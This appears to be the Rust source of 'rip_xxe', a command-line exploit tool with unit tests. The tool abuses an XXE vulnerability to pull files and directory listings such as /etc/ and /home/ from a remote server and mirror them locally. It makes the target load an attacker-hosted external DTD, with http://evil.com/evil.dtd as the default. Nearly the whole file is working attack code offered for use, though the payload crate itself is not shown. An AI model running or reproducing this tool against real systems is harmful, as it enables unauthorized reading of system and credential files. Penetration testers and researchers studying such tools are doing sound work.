//! rip_xxe
//!
//! Retrieves files from a remote filesystem through an XXE vulnerability whose result is
//! echoed back in the response. Directory listings are recognised heuristically: content
//! where every line only holds characters from the filename regex is tried as a listing,
//! anything else is saved as a file under the output directory.
//!
//! The target has to resolve an external DTD served by you (see `--dtd-url`), and the
//! request template and response field have to be adapted to the vulnerable endpoint,
//! either with the flags below or with a raw request file (`--request`).
//!
//! ```plaintext
//! Usage: rip_xxe [OPTIONS] <PATHS>...
//!
//! Arguments:
//!   <PATHS>...  Path(s) to retrieve (e.g. /etc/)
//!
//! Options:
//!   -r, --request <REQUEST>                Raw HTTP request file used as template
//!   -p, --marker <MARKER>                  Regex marking where the path goes [default: §§]
//!       --host <HOST>                      Target host [default: example.com:80]
//!   -u, --url <URL>                        Target path [default: /api/user]
//!   -X, --method <METHOD>                  HTTP method [default: put]
//!   -H, --header <HEADERS>                 Extra header, `Name: value`
//!       --dtd-url <DTD_URL>                External DTD [default: http://evil.com/evil.dtd]
//!   -f, --field <FIELD>                    Response field holding the content [default: surname]
//!   -t, --timeout <TIMEOUT>                Seconds to wait for each response [default: 10]
//!       --filename-regex <FILENAME_REGEX>  Lines matching this are tried as directory entries
//!   -o, --output-dir <OUTPUT_DIR>          Where to mirror retrieved files [default: .]
//!       --log-file <LOG_FILE>              Write logs to a file instead of stderr
//!   -v, --verbose...                       More logging
//!       --strict                           Exit with an error if a path yielded nothing
//!   -h, --help                             Print help
//!   -V, --version                          Print version
//! ```
mod arg_types;
mod output;

use arg_types::{parse_header, HttpMethod};
use output::{init_logging, Report};

use anyhow::Result;
use clap::Parser;

use log::info;

use retriever::listing::{ListingHeuristic, FILENAME_REGEX};
use retriever::oracle::{HttpOracle, OracleConfig, TemplateSource};
use retriever::request_template::{default_body, InlineTemplate, DEFAULT_DTD_URL, DEFAULT_MARKER};
use retriever::retriever::Retriever;
use retriever::store::LocalStore;

use std::path::PathBuf;
use std::process::ExitCode;
use std::time::Duration;

#[derive(Parser, Debug)]
#[command(author, version, about, long_about = None)]
pub struct Args {
    /// Path(s) to retrieve (e.g. /etc/)
    #[arg(required = true)]
    paths: Vec<String>,

    /// Raw HTTP request file used as template
    #[arg(short, long, value_hint = clap::ValueHint::FilePath)]
    request: Option<PathBuf>,

    /// Regex marking where the path goes
    #[arg(short = 'p', long, default_value_t = str::to_string(DEFAULT_MARKER))]
    marker: String,

    /// Target host
    #[arg(long, default_value = "example.com:80")]
    host: String,

    /// Target path
    #[arg(short, long, default_value = "/api/user")]
    url: String,

    /// HTTP method
    #[arg(short = 'X', long, value_enum, default_value_t = HttpMethod::Put)]
    method: HttpMethod,

    /// Extra header, `Name: value`
    #[arg(short = 'H', long = "header", value_parser = parse_header)]
    headers: Vec<(String, String)>,

    /// External DTD
    #[arg(long, default_value = DEFAULT_DTD_URL)]
    dtd_url: String,

    /// Response field holding the content, a leading '/' makes it a JSON pointer
    #[arg(short, long, default_value = "surname")]
    field: String,

    /// Seconds to wait for each response
    #[arg(short, long, default_value_t = 10)]
    timeout: u64,

    /// Lines matching this are tried as directory entries
    #[arg(long, default_value = FILENAME_REGEX)]
    filename_regex: String,

    /// Where to mirror retrieved files
    #[arg(short, long, default_value = ".", value_hint = clap::ValueHint::DirPath)]
    output_dir: PathBuf,

    /// Write logs to a file instead of stderr
    #[arg(long, value_hint = clap::ValueHint::FilePath)]
    log_file: Option<PathBuf>,

    /// More logging
    #[arg(short, long, action = clap::ArgAction::Count)]
    verbose: u8,

    /// Exit with an error if a path yielded nothing
    #[arg(long)]
    strict: bool,
}

fn get_config(args: &Args) -> OracleConfig {
    let template = match &args.request {
        Some(path) => TemplateSource::File(path.clone()),
        None => {
            let mut settings = InlineTemplate {
                host: args.host.clone(),
                url: args.url.clone(),
                method: args.method.into(),
                body: default_body(&args.dtd_url),
                ..InlineTemplate::default()
            };
            settings.headers.extend(args.headers.iter().cloned());
            TemplateSource::Inline(settings)
        }
    };

    OracleConfig {
        template,
        marker: args.marker.clone(),
        field: args.field.clone(),
        timeout: Duration::from_secs(args.timeout),
    }
}

fn main() -> Result<ExitCode> {
    let args = Args::parse();
    init_logging(args.verbose, args.log_file.as_deref())?;

    let oracle = HttpOracle::new(get_config(&args))?;
    let retriever = Retriever::new(
        oracle,
        ListingHeuristic::new(&args.filename_regex)?,
        LocalStore::new(&args.output_dir),
    );
    info!("saving to {}", retriever.store().root().display());

    let mut report = Report::default();
    for path in &args.paths {
        report.push(path.clone(), retriever.branch(path));
    }
    report.log();

    if args.strict && !report.all_found() {
        return Ok(ExitCode::FAILURE);
    }
    Ok(ExitCode::SUCCESS)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn cli_definition_is_valid() {
        use clap::CommandFactory;
        Args::command().debug_assert();
    }

    #[test]
    fn headers_are_added_to_defaults() {
        let args = Args::parse_from([
            "rip_xxe",
            "-H",
            "Cookie: sid=1",
            "--host",
            "10.0.0.2:8080",
            "/etc/",
        ]);
        let config = get_config(&args);
        match config.template {
            TemplateSource::Inline(settings) => {
                assert_eq!(settings.host, "10.0.0.2:8080");
                assert_eq!(settings.headers.len(), 3);
                assert_eq!(settings.headers[2], ("Cookie".to_string(), "sid=1".to_string()));
            }
            TemplateSource::File(_) => panic!("expected an inline template"),
        }
    }

    #[test]
    fn request_file_wins() {
        let args = Args::parse_from(["rip_xxe", "-r", "req.txt", "/etc/", "/home/"]);
        assert_eq!(args.paths, vec!["/etc/", "/home/"]);
        assert!(matches!(get_config(&args).template, TemplateSource::File(_)));
    }
}
